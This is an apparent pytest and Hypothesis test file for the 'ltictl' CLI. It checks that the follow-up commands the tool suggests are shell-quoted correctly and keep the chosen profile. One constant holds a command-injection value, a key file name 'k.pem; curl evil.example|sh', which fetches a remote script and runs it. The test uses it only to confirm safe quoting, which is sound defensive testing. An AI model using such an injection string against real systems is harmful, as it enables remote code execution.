"""In offered commands, foreign words stay single words of a shell, and the profile is right."""

import json
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ltictl.cli.render.hints import in_fixes, repeat_profile
from ltictl.model.hint import hint
from tests.support.cli import Ltictl

EVIL = "k.pem; curl evil.example|sh"


@given(st.lists(st.text(min_size=1).filter(lambda text: "\0" not in text), min_size=1))
def test_a_shell_reads_the_words_that_were_meant(words: list[str]) -> None:
    assert shlex.split(hint(*words)) == ["ltictl", *words]


@given(st.text(min_size=1).filter(lambda text: "\0" not in text))
def test_the_profile_is_one_word_too(profile: str) -> None:
    completed = repeat_profile(profile)("Next: ltictl register --org acme")

    assert shlex.split(completed.removeprefix("Next: ")) == [
        *("ltictl", "--profile", profile, "register", "--org", "acme")
    ]


@pytest.mark.parametrize(
    "text", ["ltictl failed", "ltictl asks", "myltictl list", "this ltictl knows 1"]
)
def test_other_sentences_stay_as_they_are(text: str) -> None:
    assert repeat_profile("prod")(text) == text


def test_only_fixes_are_completed_in_data() -> None:
    data = {"name": "ltictl list", "checks": [{"fix": "Run 'ltictl list'."}]}

    assert in_fixes(data, repeat_profile("prod")) == {
        "name": "ltictl list",
        "checks": [{"fix": "Run 'ltictl --profile prod list'."}],
    }


def test_the_next_step_acts_on_the_same_profile(ltictl: Ltictl) -> None:
    """The hint of 'org add' and its error in another profile are run as they are printed."""
    ltictl.run("init", "--name", "Tool", "--url", "https://tool.example", profile="prod")
    added = ltictl.run("--profile", "prod", "org", "add", "acme")
    again = ltictl.run("org", "add", "acme", "--profile=prod")

    assert "Next: ltictl --profile prod register --org acme" in added.stderr
    assert again.code != 0
    offered = added.stderr.partition("Next: ltictl ")[2].strip()
    assert ltictl.run(*shlex.split(offered), "--timeout", "1s").code == 5


def test_the_default_profile_needs_no_word(ltictl: Ltictl) -> None:
    ltictl.run("init", "--name", "Tool", "--url", "https://tool.example")

    assert "Next: ltictl register --org acme" in ltictl.run("org", "add", "acme").stderr


def test_a_key_files_name_is_quoted(ltictl: Ltictl, tmp_path: Path) -> None:
    ltictl.run("init", "--name", "Tool", "--url", "https://tool.example")
    ltictl.run("org", "add", "acme")
    entry = {
        "client_id": "c",
        "auth_login_url": "https://lms.example/auth",
        "auth_token_url": "https://lms.example/token",
        "key_set_url": "https://lms.example/jwks",
        "private_key_file": EVIL,
        "deployment_ids": ["1"],
    }
    config = tmp_path / "lti.json"
    config.write_text(json.dumps({"https://lms.example": [entry]}))

    taken = ltictl.run("import", "pylti1p3", str(config), "--org", "acme")

    assert taken.code == 0, taken.stderr
    assert f"ltictl keys import {shlex.quote(EVIL)}" in taken.stderr
